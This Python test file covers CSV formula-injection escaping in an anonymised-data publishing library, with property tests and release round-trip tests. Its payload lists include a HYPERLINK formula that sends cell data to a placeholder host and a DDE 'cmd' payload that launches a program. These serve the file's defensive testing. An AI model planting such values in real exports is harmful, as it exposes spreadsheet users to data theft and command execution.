"""Text that a spreadsheet would run never begins a cell of a CSV file, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import reticent as rt
from reticent.errors import DataError
from reticent.release import open_public
from reticent.table.blocks import as_csv, csv_layout
from reticent.table.formula_cells import escaped, formula_columns, unescaped

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'=1",
    "''=1",
    "-5e3",
]
HARMLESS = ["-5", "+3.5", "-1,234.50", "-", "+", "-5 %", "[-5, 3)", "a=b", " =1", "'", "'quoted'", "flu", "", "''"]
texts = st.one_of(
    st.sampled_from([*FORMULAS, *HARMLESS]),
    st.text("'=+-@\t\r\n1a.\u201c", max_size=6),
    st.builds(str.__add__, st.text("'=+-@", max_size=3), st.text(max_size=3)),
)


def runs(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula: by its first character, unless it is a number or a sign alone."""
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"[+-][\d., %]*", cell) and cell != ""


@given(st.lists(st.one_of(st.none(), texts), min_size=1, max_size=8))
def test_text_comes_back_and_no_cell_runs(values: list[str | None]) -> None:
    frame = pl.DataFrame({"text": pl.Series(values, dtype=pl.String), "number": range(len(values))})
    safe = escaped(frame)
    assert not any(runs(cell) for cell in safe["text"].drop_nulls())
    assert unescaped(safe).equals(frame)
    assert (formula_columns(frame) == ["text"]) == (not safe.equals(frame))
    enum = frame.with_columns(pl.col("text").cast(pl.Enum(frame["text"].drop_nulls().unique())))
    assert as_csv(enum) == as_csv(frame)
    back = unescaped(pl.read_csv(as_csv(frame), **csv_layout(frame.schema)))
    assert back.equals(frame)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_signs_and_ranges_stay_as_they_are(text: str) -> None:
    frame = pl.DataFrame({"text": [text]})
    assert escaped(frame).equals(frame)


def test_codes_that_do_not_occur_mark_no_column() -> None:
    frame = pl.DataFrame({"text": pl.Series(["a"], dtype=pl.Enum(["a", "=1"]))})
    assert formula_columns(frame) == []


def patients(count: int = 60) -> pl.DataFrame:
    words = ['=HYPERLINK("http://x")', "-2+3", "flu", "'=1", "gout", "-5"]
    return pl.DataFrame(
        {
            "age": [30 + n % 6 - 3 for n in range(count)],
            "low": [-5 - n % 2 for n in range(count)],
            "=ward()": [words[n % 6] for n in range(count)],
        }
    )


@pytest.mark.parametrize("files", ["csv", "parquet", "xlsx"])
@pytest.mark.parametrize("engine", ["local", "streaming"])
def test_a_release_with_formulas_is_safe_to_open_and_verifies(tmp_path: Path, files: str, engine: str) -> None:
    if engine == "streaming" and files == "xlsx":
        pytest.skip("a streamed table is published as csv or parquet")
    patients().write_parquet(tmp_path / "a.parquet")
    table = rt.read(tmp_path / "a.parquet", quasi=["age", "low"], sensitive="=ward()", engine=engine)
    release = rt.publish(table, rt.KAnonymity(3), method="Mondrian" if engine == "local" else "Lattice", files=files)
    release.save(tmp_path / "release")
    assert rt.verify(tmp_path / "release").holds
    manifest = json.loads((tmp_path / "release" / "public" / "manifest.json").read_text())
    assert manifest["tables"]["data"]["formulas"] == ["=ward()"]
    back = open_public(tmp_path / "release").frame
    assert sorted(back["=ward()"]) == sorted(patients()["=ward()"])
    assert open_public(tmp_path / "release").count("\"=ward()\" = '-2+3'").bounds == (10, 10)
    if files == "csv":
        rows = list(csv.reader(io.StringIO((tmp_path / "release" / "public" / "data.csv").read_text())))
        assert not any(runs(cell) for row in rows for cell in row)
        assert rows[0][-1] == "'=ward()"


def test_a_manifest_that_hides_formulas_does_not_fit_the_files(tmp_path: Path) -> None:
    rt.publish(rt.Table(patients(), quasi=["age"], sensitive="=ward()"), rt.KAnonymity(3)).save(tmp_path / "release")
    path = tmp_path / "release" / "public" / "manifest.json"
    manifest = json.loads(path.read_text())
    del manifest["tables"]["data"]["formulas"]
    path.write_text(json.dumps(manifest))
    with pytest.raises(
        DataError, match=r"does not list the columns with text that a spreadsheet would run as a formula: =ward\(\)"
    ):
        open_public(tmp_path / "release")


def test_tables_without_formulas_have_no_mark(tmp_path: Path) -> None:
    rt.publish(rt.Table({"age": [1, 1, 2, 2]}, quasi=["age"]), rt.KAnonymity(2)).save(tmp_path / "release")
    assert "formulas" not in (tmp_path / "release" / "public" / "manifest.json").read_text()
